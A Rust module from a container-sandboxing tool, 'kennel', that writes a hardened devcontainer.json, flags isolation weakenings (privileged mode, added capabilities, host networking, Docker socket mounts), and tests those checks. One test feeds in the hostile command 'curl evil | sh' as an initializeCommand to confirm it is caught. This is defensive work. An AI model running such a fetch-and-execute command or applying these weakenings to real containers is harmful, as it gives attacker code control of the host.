//! The IDE's dev container: `kennel devcontainer init` writes
//! `.devcontainer/kennel/devcontainer.json` from the sandbox's own create body
//! ([`crate::hardening::ide_container`]), so VS Code's and JetBrains' "Open in Dev Container"
//! start a container on the environment's internal network with kennel's hardening; and the
//! checks behind `kennel devcontainer init --check` and `kennel inspect`: any container on the
//! environment's network, or a hand-edited devcontainer.json, weaker than kennel's settings.

use std::collections::BTreeMap;

use bollard::models::ContainerCreateBody;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::backend::{ROLE_IDE, names};
use crate::hardening::{SERVICE_CAP_DROP, WORKSPACE_MOUNT};

/// Where the generated file lives, relative to the workspace (the IDEs offer every
/// `.devcontainer/*/devcontainer.json`; the user's own `.devcontainer/devcontainer.json` is left
/// alone).
pub const DEVCONTAINER_FILE: &str = ".devcontainer/kennel/devcontainer.json";

/// The isolation settings of one container attached to an environment's internal network, as
/// the engine reports them.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Member {
    /// Container name.
    pub name: String,
    /// Its `dev.kennel.role` label, `None` when it has none (not made by kennel or its IDE file).
    pub role: Option<String>,
    /// Its `dev.kennel.env` label.
    pub env_label: Option<String>,
    /// Runs privileged.
    pub privileged: bool,
    /// Capabilities added.
    pub cap_add: Vec<String>,
    /// Capabilities dropped.
    pub cap_drop: Vec<String>,
    /// Security options (`no-new-privileges`, `seccomp=…`).
    pub security_opt: Vec<String>,
    /// The engine's network mode (`kennel-<env>`, `host`, `bridge`, …).
    pub network_mode: String,
    /// Every network it is attached to.
    pub networks: Vec<String>,
    /// Read-only root filesystem.
    pub readonly_rootfs: bool,
    /// PID namespace mode (`host` shares the host's).
    pub pid_mode: String,
    /// IPC namespace mode (`host` shares the host's).
    pub ipc_mode: String,
    /// Devices passed through.
    pub devices: Vec<String>,
    /// Bind mounts and volumes (`source:target[:mode]`).
    pub binds: Vec<String>,
}

/// A container on an environment's network that is weaker than kennel's settings for its role.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Weakness {
    /// Container name.
    pub container: String,
    /// Its role label (`unlabelled` when it has none).
    pub role: String,
    /// What it has that kennel's would not, one sentence each.
    pub problems: Vec<String>,
}

fn has_nnp(opts: &[String]) -> bool {
    opts.iter().any(|o| {
        matches!(
            o.as_str(),
            "no-new-privileges" | "no-new-privileges:true" | "no-new-privileges=true"
        )
    })
}

/// What makes `m` weaker than kennel's settings for a container of its role on environment
/// `env`'s network: privileged, added capabilities, not dropping them, the host network or a
/// second network, no `no-new-privileges`, unconfined seccomp/AppArmor, the host's PID/IPC
/// namespace, devices, the Docker socket, and (sandbox and IDE, when `read_only_rootfs`) a
/// writable root. Empty when it is as strict as kennel's.
pub fn weaknesses(env: &str, m: &Member, read_only_rootfs: bool) -> Vec<String> {
    let mut p = Vec::new();
    let internal = names::network(env);
    let role = m.role.as_deref().unwrap_or("");
    // The environment's proxy and its egress profiles' proxies are on the egress network too.
    let is_proxy = (role == "proxy" && m.name == names::proxy(env))
        || (role == crate::backend::ROLE_PROFILE_PROXY
            && m.name.starts_with(&format!("{}-", names::proxy(env))));
    let is_service = role == "service";
    if m.privileged {
        p.push("runs --privileged: every capability and every host device, no seccomp".into());
    }
    if !m.cap_add.is_empty() && !is_service {
        p.push(format!(
            "adds capabilities {} (kennel's drop them all)",
            m.cap_add.join(", ")
        ));
    }
    if is_service {
        let missing: Vec<&str> = SERVICE_CAP_DROP
            .iter()
            .copied()
            .filter(|c| !m.cap_drop.iter().any(|d| d.eq_ignore_ascii_case(c)))
            .collect();
        if !missing.is_empty() && !m.cap_drop.iter().any(|d| d.eq_ignore_ascii_case("ALL")) {
            p.push(format!("keeps capabilities {}", missing.join(", ")));
        }
    } else if !m.cap_drop.iter().any(|d| d.eq_ignore_ascii_case("ALL")) {
        p.push("does not drop all capabilities (--cap-drop=ALL missing)".into());
    }
    if !has_nnp(&m.security_opt) {
        p.push("no no-new-privileges: setuid programs can gain privileges".into());
    }
    for o in &m.security_opt {
        if o.ends_with("=unconfined") || o.ends_with(":unconfined") {
            p.push(format!("security option {o} turns a protection off"));
        }
    }
    match m.network_mode.as_str() {
        "host" => p.push("uses the host's network: every route out, the proxy bypassed".into()),
        mode if mode.starts_with("container:") => p.push(format!(
            "shares the network namespace of {} (network_mode {mode})",
            &mode["container:".len()..]
        )),
        _ => {}
    }
    let allowed: Vec<String> = if is_proxy {
        vec![internal.clone(), names::egress_network(env)]
    } else {
        vec![internal.clone()]
    };
    // A service with `egress = "NAME"` is also on its egress profile's network (internal too,
    // where only that profile's proxy is): kennel's own setting, not a route around a proxy.
    let profile_net_prefix = format!("{}-net-", internal);
    let on_profile_network = |n: &str| {
        is_service && n.starts_with(&profile_net_prefix) && n.len() > profile_net_prefix.len()
    };
    for n in &m.networks {
        if !allowed.contains(n) && !on_profile_network(n) {
            p.push(format!(
                "is also on network {n}: a route around the proxy (kennel's are on {internal} only)"
            ));
        }
    }
    if m.pid_mode == "host" {
        p.push("shares the host's PID namespace".into());
    }
    if m.ipc_mode == "host" {
        p.push("shares the host's IPC namespace".into());
    }
    if !m.devices.is_empty() {
        p.push(format!("has host devices {}", m.devices.join(", ")));
    }
    for b in &m.binds {
        if b.contains("docker.sock") {
            p.push(format!(
                "mounts the Docker socket ({b}): control of the host"
            ));
        }
    }
    if read_only_rootfs
        && (role == "sandbox" || role == ROLE_IDE || role.is_empty())
        && !m.readonly_rootfs
    {
        p.push("has a writable root filesystem (kennel's is read-only: --read-only)".into());
    }
    p
}

/// A bind (`source:target[:mode]`) split at its last colons.
fn split_bind(b: &str) -> Result<(String, String, bool), String> {
    let parts: Vec<&str> = b.rsplitn(3, ':').collect();
    let (src, target, ro) = match parts.as_slice() {
        [mode, target, src] if matches!(*mode, "ro" | "rw") => (*src, *target, *mode == "ro"),
        [target, src] => (*src, *target, false),
        _ => return Err(format!("mount {b:?} is not source:target[:mode]")),
    };
    if src.contains(',') || target.contains(',') {
        // devcontainer.json mounts are `source=…,target=…` strings: a comma would split them.
        return Err(format!(
            "mount {b:?}: a path with a comma cannot be written in devcontainer.json; rename it"
        ));
    }
    Ok((src.to_string(), target.to_string(), ro))
}

fn mount_string(src: &str, target: &str, ro: bool) -> String {
    let kind = if src.starts_with('/') {
        "bind"
    } else {
        "volume"
    };
    let mut s = format!("source={src},target={target},type={kind}");
    if ro {
        s.push_str(",readonly");
    }
    s
}

/// `docker run` arguments for the hardening of `body` (the sandbox's, see
/// [`crate::hardening::ide_container`]): container name, hostname, the environment's network
/// only, resolver, capabilities, security options, read-only root and tmpfs, limits, init, IPC
/// and the environment's labels. Sorted where the order carries no meaning, so a hand edit shows
/// as a clear difference.
pub fn run_args(env: &str, body: &ContainerCreateBody) -> Vec<String> {
    let h = body.host_config.clone().unwrap_or_default();
    let mut a = vec![format!("--name={}", names::ide(env))];
    if let Some(n) = &body.hostname {
        a.push(format!("--hostname={n}"));
    }
    if let Some(n) = &h.network_mode {
        a.push(format!("--network={n}"));
    }
    for d in h.dns.unwrap_or_default() {
        a.push(format!("--dns={d}"));
    }
    for c in h.cap_drop.unwrap_or_default() {
        a.push(format!("--cap-drop={c}"));
    }
    for c in h.cap_add.unwrap_or_default() {
        a.push(format!("--cap-add={c}"));
    }
    for o in h.security_opt.unwrap_or_default() {
        a.push(format!("--security-opt={o}"));
    }
    if h.privileged == Some(true) {
        a.push("--privileged".into());
    }
    if h.readonly_rootfs == Some(true) {
        a.push("--read-only".into());
    }
    let tmpfs: BTreeMap<String, String> = h.tmpfs.unwrap_or_default().into_iter().collect();
    for (path, opts) in tmpfs {
        a.push(format!("--tmpfs={path}:{opts}"));
    }
    if let Some(n) = h.nano_cpus.filter(|n| *n > 0) {
        a.push(format!("--cpus={}", n as f64 / 1e9));
    }
    if let Some(m) = h.memory.filter(|m| *m > 0) {
        a.push(format!("--memory={m}b"));
    }
    if let Some(m) = h.memory_swap.filter(|m| *m > 0) {
        a.push(format!("--memory-swap={m}b"));
    }
    if let Some(p) = h.pids_limit.filter(|p| *p > 0) {
        a.push(format!("--pids-limit={p}"));
    }
    for u in h.ulimits.unwrap_or_default() {
        if let (Some(n), Some(s), Some(hard)) = (u.name, u.soft, u.hard) {
            a.push(format!("--ulimit={n}={s}:{hard}"));
        }
    }
    if h.init == Some(true) {
        a.push("--init".into());
    }
    if let Some(i) = h.ipc_mode.filter(|i| !i.is_empty()) {
        a.push(format!("--ipc={i}"));
    }
    let labels: BTreeMap<String, String> = body
        .labels
        .clone()
        .unwrap_or_default()
        .into_iter()
        .collect();
    for (k, v) in labels {
        a.push(format!("--label={k}={v}"));
    }
    a
}

/// devcontainer.json for environment `env` from the IDE container's create body
/// ([`crate::hardening::ide_container`]): the image kennel built, the workspace at
/// `/workspace`, the sandbox user, its variables (proxy ones included), the home volume and the
/// credential mounts, and [`run_args`]. `initialize` is the `initializeCommand` (`kennel up
/// --egress-only …`, which brings up the network and proxy the container joins).
pub fn devcontainer_json(
    env: &str,
    body: &ContainerCreateBody,
    initialize: &[String],
) -> Result<Value, String> {
    let image = body
        .image
        .clone()
        .ok_or("the environment's container has no image")?;
    let user = body.user.clone().unwrap_or_default();
    let mut workspace_mount = None;
    let mut mounts = Vec::new();
    for b in body
        .host_config
        .as_ref()
        .and_then(|h| h.binds.clone())
        .unwrap_or_default()
    {
        let (src, target, ro) = split_bind(&b)?;
        if target == WORKSPACE_MOUNT {
            workspace_mount = Some(mount_string(&src, &target, ro));
        } else {
            mounts.push(Value::String(mount_string(&src, &target, ro)));
        }
    }
    let workspace_mount =
        workspace_mount.ok_or("the environment's container has no workspace mount")?;
    let mut env_vars = serde_json::Map::new();
    for kv in body.env.clone().unwrap_or_default() {
        if let Some((k, v)) = kv.split_once('=') {
            env_vars.insert(k.to_string(), Value::String(v.to_string()));
        }
    }
    Ok(json!({
        "name": format!("kennel: {env}"),
        "image": image,
        "initializeCommand": initialize,
        "workspaceMount": workspace_mount,
        "workspaceFolder": WORKSPACE_MOUNT,
        "containerUser": user,
        "remoteUser": user,
        // kennel chose the uid (the sandbox user, sharing files through its group); an IDE's
        // rebuild of the image to change it would run outside the environment's network.
        "updateRemoteUserUID": false,
        "overrideCommand": true,
        "containerEnv": Value::Object(env_vars),
        "mounts": mounts,
        "runArgs": run_args(env, body),
    }))
}

/// The header written above the generated JSON (devcontainer.json is JSONC).
pub const FILE_HEADER: &str = "// Written by `kennel devcontainer init`: this IDE container is a kennel sandbox (the\n// environment's internal network only, its proxy the only way out, kennel's hardening).\n// Edits that weaken it are reported by `kennel devcontainer init --check` and `kennel inspect`.\n// Run `kennel devcontainer init` again to regenerate it. Not for git: paths are this machine's.\n";

/// Differences between a (possibly hand-edited) devcontainer.json and what kennel generates,
/// as sentences; the second list are those that weaken the container (a hardening argument
/// removed, `--privileged`, `--cap-add`, another network, the host's namespaces, devices, the
/// Docker socket, privileged/capAdd/securityOpt keys, features, a different image or user, the
/// proxy variables changed). The first list is every difference.
pub fn check_file(text: &str, expected: &Value) -> Result<(Vec<String>, Vec<String>), String> {
    let actual: Value =
        jsonc_parser::parse_to_serde_value(text, &crate::devcontainer::parse_options())
            .map_err(|e| format!("line {}: {e}", e.line_display()))?;
    if !actual.is_object() {
        return Err("the top level must be an object { … }".into());
    }
    let (mut diffs, mut weaker) = (Vec::new(), Vec::new());
    let strings = |v: &Value, key: &str| -> Vec<String> {
        v.get(key)
            .and_then(Value::as_array)
            .map(|a| {
                a.iter()
                    .map(|x| x.as_str().map_or_else(|| x.to_string(), str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    };
    let want_args = strings(expected, "runArgs");
    let have_args = strings(&actual, "runArgs");
    for w in &want_args {
        if !have_args.contains(w) {
            let s = format!("runArgs lacks {w} (kennel's setting)");
            weaker.push(s.clone());
            diffs.push(s);
        }
    }
    const WEAKENING: [&str; 13] = [
        "--privileged",
        "--cap-add",
        "--network",
        "--net",
        "--pid",
        "--ipc",
        "--userns",
        "--uts",
        "--device",
        "--security-opt",
        "--add-host",
        "-p",
        "--publish",
    ];
    for (i, h) in have_args.iter().enumerate() {
        if want_args.contains(h) {
            continue;
        }
        let s = format!("runArgs adds {h}");
        let flag = h.split('=').next().unwrap_or(h);
        let next_is_socket = have_args
            .get(i + 1)
            .is_some_and(|n| n.contains("docker.sock"));
        if WEAKENING.contains(&flag)
            || h.contains("docker.sock")
            || (matches!(flag, "-v" | "--volume" | "--mount") && next_is_socket)
        {
            weaker.push(s.clone());
        }
        diffs.push(s);
    }
    for key in [
        "image",
        "containerUser",
        "remoteUser",
        "workspaceMount",
        "workspaceFolder",
    ] {
        if actual.get(key) != expected.get(key) {
            let s = format!(
                "{key} is {} (kennel's: {})",
                actual.get(key).unwrap_or(&Value::Null),
                expected.get(key).unwrap_or(&Value::Null)
            );
            weaker.push(s.clone());
            diffs.push(s);
        }
    }
    // initializeCommand runs on the host: anything but kennel's `up --egress-only` is code the
    // workspace (which the sandbox can write) would run there.
    let want_init = strings(expected, "initializeCommand");
    let have_init = match actual.get("initializeCommand") {
        Some(Value::String(s)) => vec![s.clone()],
        _ => strings(&actual, "initializeCommand"),
    };
    let kennel_argv0 = have_init.first().is_some_and(|a| {
        std::path::Path::new(a)
            .file_name()
            .is_some_and(|f| f.to_string_lossy().starts_with("kennel"))
    });
    if !want_init.is_empty() && (!kennel_argv0 || have_init.get(1..) != want_init.get(1..)) {
        let s = format!(
            "initializeCommand is {have_init:?} (kennel's: {want_init:?}); it runs on the host"
        );
        weaker.push(s.clone());
        diffs.push(s);
    }
    if actual.get("privileged").and_then(Value::as_bool) == Some(true) {
        weaker.push("privileged is true".into());
        diffs.push("privileged is true".into());
    }
    for key in [
        "capAdd",
        "securityOpt",
        "features",
        "appPort",
        "forwardPorts",
    ] {
        if actual
            .get(key)
            .is_some_and(|v| v != &json!([]) && v != &json!({}))
        {
            let s = format!(
                "{key} is set ({}): kennel does not apply it, the IDE does",
                actual[key]
            );
            if key != "forwardPorts" {
                weaker.push(s.clone());
            }
            diffs.push(s);
        }
    }
    let want_env = expected.get("containerEnv").cloned().unwrap_or_default();
    let have_env = actual.get("containerEnv").cloned().unwrap_or_default();
    if let Some(want) = want_env.as_object() {
        for (k, v) in want {
            if have_env.get(k) != Some(v) {
                let s = format!("containerEnv.{k} is not kennel's value");
                if crate::devcontainer::is_proxy_var(k) {
                    weaker.push(s.clone());
                }
                diffs.push(s);
            }
        }
    }
    let want_mounts = strings(expected, "mounts");
    for m in strings(&actual, "mounts") {
        if !want_mounts.contains(&m) {
            let s = format!("mounts adds {m}");
            if !m.contains("readonly") || m.contains("docker.sock") {
                weaker.push(s.clone());
            }
            diffs.push(s);
        }
    }
    Ok((diffs, weaker))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::EnvPlan;

    fn plan(ws: &std::path::Path) -> EnvPlan {
        let spec = crate::EnvSpec::parse_str(
            "name = \"idetest\"\nimage = \"img:1\"\n[resources]\ncpus = 2.0\nmemory = \"1g\"\npids = 300\n",
            &ws.join("kennel.toml"),
            ws,
        )
        .expect("spec");
        EnvPlan {
            spec,
            policy_dir: ws.to_path_buf(),
            proxy_image: "proxy:1".into(),
            state_labels: vec![("dev.kennel.daemon".into(), "d1".into())],
            progress: None,
            access_log_dir: None,
        }
    }

    fn generated() -> (tempfile::TempDir, Value) {
        let ws = tempfile::tempdir().expect("tempdir");
        let p = plan(ws.path());
        let body = crate::hardening::ide_container(&p, None, None);
        let v = devcontainer_json("idetest", &body, &["kennel".into(), "up".into()]).expect("json");
        (ws, v)
    }

    #[test]
    fn generated_file_is_the_sandbox_hardening_on_the_internal_network() {
        let (ws, v) = generated();
        assert_eq!(v["image"], "img:1");
        assert_eq!(v["workspaceFolder"], "/workspace");
        assert_eq!(
            v["workspaceMount"],
            format!("source={},target=/workspace,type=bind", ws.path().display())
        );
        assert_eq!(v["containerUser"], "1001:2000");
        assert_eq!(v["remoteUser"], "1001:2000");
        assert_eq!(v["initializeCommand"], json!(["kennel", "up"]));
        assert_eq!(v["containerEnv"]["HTTPS_PROXY"], "http://proxy:8888");
        assert_eq!(v["containerEnv"]["HOME"], "/home/claude");
        assert_eq!(
            v["mounts"],
            json!(["source=kennel-idetest-home,target=/home/claude,type=volume"])
        );
        let args: Vec<&str> = v["runArgs"]
            .as_array()
            .expect("runArgs")
            .iter()
            .filter_map(Value::as_str)
            .collect();
        for want in [
            "--name=kennel-idetest-ide",
            "--network=kennel-idetest",
            "--dns=127.0.0.1",
            "--cap-drop=ALL",
            "--security-opt=no-new-privileges:true",
            "--read-only",
            "--cpus=2",
            "--memory=1073741824b",
            "--pids-limit=300",
            "--ulimit=nofile=1024:2048",
            "--init",
            "--label=dev.kennel.env=idetest",
            "--label=dev.kennel.role=ide",
            "--label=dev.kennel.managed=true",
            "--label=dev.kennel.daemon=d1",
        ] {
            assert!(args.contains(&want), "{want} missing in {args:?}");
        }
        assert!(
            args.iter().any(|a| a.starts_with("--tmpfs=/tmp:")),
            "{args:?}"
        );
        assert!(
            !args
                .iter()
                .any(|a| a.contains("privileged") || a.starts_with("--cap-add"))
        );
        // The generated file checks clean against itself.
        let text = format!(
            "{FILE_HEADER}{}",
            serde_json::to_string_pretty(&v).expect("ser")
        );
        let (diffs, weaker) = check_file(&text, &v).expect("check");
        assert!(diffs.is_empty() && weaker.is_empty(), "{diffs:?}");
    }

    #[test]
    fn hand_weakened_files_are_reported() {
        let (_ws, v) = generated();
        let edit = |f: &dyn Fn(&mut Value)| {
            let mut w = v.clone();
            f(&mut w);
            let (_, weaker) = check_file(&w.to_string(), &v).expect("check");
            weaker
        };
        let w = edit(&|w| {
            w["runArgs"]
                .as_array_mut()
                .expect("a")
                .push("--privileged".into())
        });
        assert_eq!(w, ["runArgs adds --privileged"]);
        let w = edit(&|w| {
            let a = w["runArgs"].as_array_mut().expect("a");
            a.retain(|x| x != "--cap-drop=ALL");
            a.push("--cap-add=NET_ADMIN".into());
        });
        assert!(
            w.iter().any(|s| s.contains("lacks --cap-drop=ALL")),
            "{w:?}"
        );
        assert!(w.iter().any(|s| s.contains("--cap-add=NET_ADMIN")), "{w:?}");
        let w = edit(&|w| {
            let a = w["runArgs"].as_array_mut().expect("a");
            a.retain(|x| x != "--network=kennel-idetest");
            a.push("--network=host".into());
        });
        assert_eq!(w.len(), 2, "{w:?}");
        let w = edit(&|w| w["containerEnv"]["HTTPS_PROXY"] = "".into());
        assert_eq!(w, ["containerEnv.HTTPS_PROXY is not kennel's value"]);
        let w = edit(&|w| w["initializeCommand"] = json!("curl evil | sh"));
        assert!(w.len() == 1 && w[0].contains("runs on the host"), "{w:?}");
        let w = edit(&|w| w["initializeCommand"] = json!(["/opt/bin/kennel", "up"]));
        assert!(w.is_empty(), "another path to kennel is fine: {w:?}");
        let w = edit(&|w| w["privileged"] = true.into());
        assert_eq!(w, ["privileged is true"]);
        let w = edit(&|w| {
            w["mounts"]
                .as_array_mut()
                .expect("m")
                .push("source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind".into())
        });
        assert_eq!(w.len(), 1, "{w:?}");
        // A harmless addition is a difference, not a weakening.
        let mut w = v.clone();
        w["runArgs"]
            .as_array_mut()
            .expect("a")
            .push("--env=X=1".into());
        let (diffs, weaker) = check_file(&w.to_string(), &v).expect("check");
        assert_eq!((diffs.len(), weaker.len()), (1, 0));
        assert!(check_file("{ nope", &v).is_err());
    }

    fn strict(role: &str, name: &str) -> Member {
        Member {
            name: name.into(),
            role: Some(role.into()),
            env_label: Some("e".into()),
            cap_drop: vec!["ALL".into()],
            security_opt: vec!["no-new-privileges:true".into()],
            network_mode: "kennel-e".into(),
            networks: vec!["kennel-e".into()],
            readonly_rootfs: true,
            pid_mode: String::new(),
            ipc_mode: "private".into(),
            ..Default::default()
        }
    }

    #[test]
    fn weakness_checker_names_each_weakening() {
        assert!(weaknesses("e", &strict("sandbox", "kennel-e-sandbox"), true).is_empty());
        assert!(weaknesses("e", &strict("ide", "kennel-e-ide"), true).is_empty());
        let mut proxy = strict("proxy", "kennel-e-proxy");
        proxy.networks.push("kennel-e-egress".into());
        assert!(
            weaknesses("e", &proxy, true).is_empty(),
            "the proxy is dual-homed by design"
        );
        // So are the egress profiles' proxies, and only they.
        let mut profile_proxy = strict(crate::backend::ROLE_PROFILE_PROXY, "kennel-e-proxy-dind");
        profile_proxy.networks.push("kennel-e-egress".into());
        assert!(weaknesses("e", &profile_proxy, true).is_empty());
        profile_proxy.name = "kennel-other-proxy-dind".into();
        assert_eq!(weaknesses("e", &profile_proxy, true).len(), 1);
        let mut svc = strict("service", "kennel-e-svc-db");
        svc.cap_drop = SERVICE_CAP_DROP.iter().map(|s| s.to_string()).collect();
        svc.readonly_rootfs = false;
        assert!(weaknesses("e", &svc, true).is_empty());
        // A service with `egress = "NAME"` is on its profile's network too (kennel's setting);
        // the sandbox or the IDE container there would reach the profile's proxy.
        svc.networks.push("kennel-e-net-dind".into());
        assert!(weaknesses("e", &svc, true).is_empty(), "profile network");
        let mut ide = strict("ide", "kennel-e-ide");
        ide.networks.push("kennel-e-net-dind".into());
        let w = weaknesses("e", &ide, true);
        assert!(w.len() == 1 && w[0].contains("kennel-e-net-dind"), "{w:?}");

        let check = |f: &dyn Fn(&mut Member), want: &str| {
            let mut m = strict("ide", "kennel-e-ide");
            f(&mut m);
            let w = weaknesses("e", &m, true);
            assert!(w.len() == 1 && w[0].contains(want), "{want}: {w:?}");
        };
        check(&|m| m.privileged = true, "--privileged");
        check(&|m| m.cap_add = vec!["SYS_ADMIN".into()], "SYS_ADMIN");
        check(&|m| m.cap_drop.clear(), "--cap-drop=ALL");
        check(&|m| m.security_opt.clear(), "no-new-privileges");
        check(&|m| m.network_mode = "host".into(), "host's network");
        check(
            &|m| m.networks.push("bridge".into()),
            "also on network bridge",
        );
        check(&|m| m.pid_mode = "host".into(), "PID");
        check(&|m| m.readonly_rootfs = false, "writable root");
        check(
            &|m| {
                m.binds
                    .push("/var/run/docker.sock:/var/run/docker.sock".into())
            },
            "Docker socket",
        );
        // An unlabelled container (made by hand) is held to the sandbox's standard.
        let mut foreign = strict("x", "someone");
        foreign.role = None;
        foreign.cap_drop.clear();
        assert_eq!(weaknesses("e", &foreign, false).len(), 1);
        // A container named like the proxy but not labelled so gets no second network.
        let mut fake_proxy = strict("ide", "kennel-e-proxy");
        fake_proxy.networks.push("kennel-e-egress".into());
        assert_eq!(weaknesses("e", &fake_proxy, true).len(), 1);
    }

    #[test]
    fn binds_split_at_the_last_colons_and_commas_are_refused() {
        assert_eq!(
            split_bind("/a/b:/c:ro").expect("ok"),
            ("/a/b".into(), "/c".into(), true)
        );
        assert_eq!(
            split_bind("vol:/home/x").expect("ok"),
            ("vol".into(), "/home/x".into(), false)
        );
        assert!(split_bind("/a,b:/c:rw").is_err());
        assert_eq!(
            mount_string("/a", "/b", true),
            "source=/a,target=/b,type=bind,readonly"
        );
    }
}
